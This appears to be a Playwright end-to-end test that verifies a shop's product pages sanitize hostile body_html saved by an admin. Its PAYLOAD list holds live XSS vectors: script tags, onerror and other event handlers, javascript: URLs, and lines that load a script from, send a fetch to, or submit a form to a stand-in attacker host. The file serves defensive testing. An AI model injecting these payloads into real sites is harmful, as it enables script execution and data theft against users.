import { expect, test } from '@playwright/test';
import { signInAsDemoAdmin } from './auth-helpers';
import { E2E_BASE_URL, E2E_DATA_DIR } from './env.mjs';

// Product body_html with scripts, event handlers and javascript: URLs, saved by an admin
// through the admin API, renders inert on the product page: no dialog, no request to the
// attacker's host, nothing executable in the DOM.

const ATTACKER = 'attacker.example';
const PAYLOAD = [
  '<p>Probe paragraph marker, <strong>black seed</strong> oil.</p>',
  `<script>alert('script')</script>`,
  `<script src="https://${ATTACKER}/steal.js"></script>`,
  `<img src="x" onerror="alert('onerror');fetch('https://${ATTACKER}/img')">`,
  `<a href="javascript:alert('href')" id="js-link">Click me</a>`,
  `<a href="JaVaScRiPt:alert('mixed')">Mixed case</a>`,
  `<iframe src="javascript:alert('iframe')"></iframe>`,
  `<svg><script>alert('svg')</script><animate onbegin="alert('svg-onbegin')"/></svg>`,
  `<div style="background:url(javascript:alert('css'))" onmouseover="alert('hover')">Hover</div>`,
  `<object data="https://${ATTACKER}/x.swf"></object>`,
  `<form action="https://${ATTACKER}/phish"><input name="q"><button>Go</button></form>`,
  `<details open ontoggle="alert('toggle')"><summary>More</summary></details>`,
].join('\n');

test('hostile body_html saved by an admin renders inert on the product page', async ({ page }) => {
  const headers = { origin: E2E_BASE_URL };
  // Admins use a second factor.
  await signInAsDemoAdmin(page, { origin: E2E_BASE_URL, dataDir: E2E_DATA_DIR });

  const handle = `xss-probe-${Date.now().toString(36)}`;
  const created = await page.request.post('/api/admin/products', {
    headers,
    data: {
      title: 'XSS probe oil',
      handle,
      body_html: PAYLOAD,
      published: true,
      variants: [{ title: '100ml', price: '9.99' }],
    },
  });
  expect(created.status(), await created.text()).toBe(201);
  probe = { id: ((await created.json()) as { product: { id: string } }).product.id, handle };

  const dialogs: string[] = [];
  page.on('dialog', async (dialog) => {
    dialogs.push(dialog.message());
    await dialog.dismiss();
  });
  const attackerRequests: string[] = [];
  page.on('request', (request) => {
    if (request.url().includes(ATTACKER) || request.url().startsWith('javascript:')) {
      attackerRequests.push(request.url());
    }
  });

  await page.goto(`/product/${handle}`);
  await expect(page.getByRole('heading', { level: 1 })).toContainText('XSS probe oil');
  const marker = page.getByText('Probe paragraph marker');
  await expect(marker).toBeAttached();
  // Give handlers a chance: click the link and hover the text whose element carried them (the
  // sanitizer keeps the link's text without its href and id, and the div's text alone).
  const link = page.getByText('Click me', { exact: true });
  await expect(link).toBeVisible();
  await link.click();
  await page.getByText(/Hover/).first().hover();
  await page.waitForLoadState('networkidle');

  // Everything rendered from body_html: the marker paragraph's container.
  const dangerous = await marker.evaluate((paragraph) => {
    const container = paragraph.parentElement ?? paragraph;
    const found: string[] = [];
    for (const el of [container, ...container.querySelectorAll('*')]) {
      for (const attr of el.getAttributeNames()) {
        const value = el.getAttribute(attr) ?? '';
        if (/^on/i.test(attr)) found.push(`${el.tagName} ${attr}`);
        if (/^\s*javascript:/i.test(value) || (/javascript:/i.test(value) && attr === 'style')) {
          found.push(`${el.tagName} ${attr}=${value}`);
        }
      }
      if (['SCRIPT', 'IFRAME', 'OBJECT', 'EMBED', 'FORM'].includes(el.tagName)) {
        found.push(el.tagName);
      }
    }
    return found;
  });
  expect(dangerous).toEqual([]);
  expect(dialogs).toEqual([]);
  expect(attackerRequests).toEqual([]);
  await expect(page).toHaveURL(new RegExp(`/product/${handle}$`));
});

// The probe product is removed whether the test passed or failed (hooks get their own time after
// a test times out), so other journeys see the catalogue unchanged.
let probe: { id: string; handle: string } | null = null;
test.afterEach(async ({ page }) => {
  if (!probe) return;
  const { id, handle } = probe;
  probe = null;
  const removed = await page.request.delete(`/api/admin/products/${id}`, {
    headers: { origin: E2E_BASE_URL },
  });
  expect(removed.status()).toBe(204);
  expect((await page.request.get(`/api/store/products/${handle}`)).status()).toBe(404);
});
